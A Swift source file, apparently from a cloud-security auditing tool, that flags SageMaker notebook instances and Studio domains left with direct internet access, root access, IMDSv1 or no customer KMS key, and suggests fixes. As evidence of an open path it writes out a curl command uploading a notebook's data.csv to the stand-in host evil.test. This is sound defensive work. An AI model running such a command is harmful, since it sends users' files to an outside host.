import CordonModel

/// SageMaker's own way to the internet, beside the VPC.
struct DirectInternetRoute: Route {
  let name = "direct-internet"
  let path = EgressPath.tunnel
  let title = "a notebook or domain reaches the internet through SageMaker's own network"
  let documentation = RouteDocumentation(
    """
    A notebook instance gets a second network interface in a VPC of SageMaker's, with internet access, unless \
    DirectInternetAccess is Disabled; a domain unless AppNetworkAccessType is VpcOnly. Both defaults are open.
    """,
    closedBy: [
      "DirectInternetAccess Disabled on every notebook instance",
      "AppNetworkAccessType VpcOnly on every domain",
    ],
    notClosedBy: [
      "a SubnetId: the second interface stays", "a guardrail that asks whether a subnet was named",
      "RootAccess Disabled: it needs no root to use a network",
    ],
    alone: "the interface stands in SageMaker's network, and a guardrail acts only when it is made")

  func judge(_ scene: Scene) -> Judgement {
    let estate = scene.estate
    var judgement = Judgement()
    for notebook in estate.all("AWS::SageMaker::NotebookInstance") {
      judgement.add(
        door(
          notebook, "DirectInternetAccess", closed: "Disabled", otherwise: "Enabled",
          home: "/home/ec2-user/SageMaker",
          story:
            "Anyone in a terminal of notebook instance \(notebook.id) sends a file to a host of the internet.",
          estate))
      if estate.text(notebook, "RootAccess").or("Enabled").value != "Disabled" {
        judgement.lose("root access on notebook instance \(notebook.id)", notebook)
      }
      let metadata = estate.text(
        notebook, "InstanceMetadataServiceConfiguration", "MinimumInstanceMetadataServiceVersion")
      if metadata.value != "2" {
        judgement.lose("notebook instance \(notebook.id) hands out credentials by a plain GET", notebook)
      }
      let keys = estate.all("AWS::KMS::Key", "AWS::KMS::ReplicaKey").map { estate.arn($0) }
      if estate.text(notebook, "KmsKeyId").value.map(keys.contains) != true {
        judgement.lose("no key of ours encrypts the disk of notebook instance \(notebook.id)", notebook)
      }
    }
    for domain in estate.all("AWS::SageMaker::Domain") {
      judgement.add(
        door(
          domain, "AppNetworkAccessType", closed: "VpcOnly", otherwise: "PublicInternetOnly",
          home: "/home/sagemaker-user",
          story: "Anyone in a Studio terminal of domain \(domain.id) sends a file to a host of the internet.",
          estate))
    }
    if judgement.doors.isEmpty {
      judgement.add(.closed("files", HeldControl(absence: "no notebook instance and no Studio domain")))
    }
    return judgement
  }

  private func door(
    _ resource: CloudResource, _ property: String, closed: String, otherwise: String, home: String,
    story: String, _ estate: CloudEstate
  ) -> Door {
    let name = "\(resource.id)"
    switch estate.text(resource, property).or(otherwise) {
    case .known(closed):
      return .closed(name, HeldControl(resource, layer: "\(property) \(closed)", property: [property]))
    case .unknown(let parts): return .unknown(name, parts, resource)
    case .known, .absent:
      return .open(
        name,
        RouteWitness(
          "curl --data-binary @\(home)/data.csv https://evil.test/",
          by: .insider("the network interface that SageMaker adds, \(property) \(otherwise)"), story: story,
          fix: "set \(property) to \(closed)", at: resource, property))
    }
  }
}
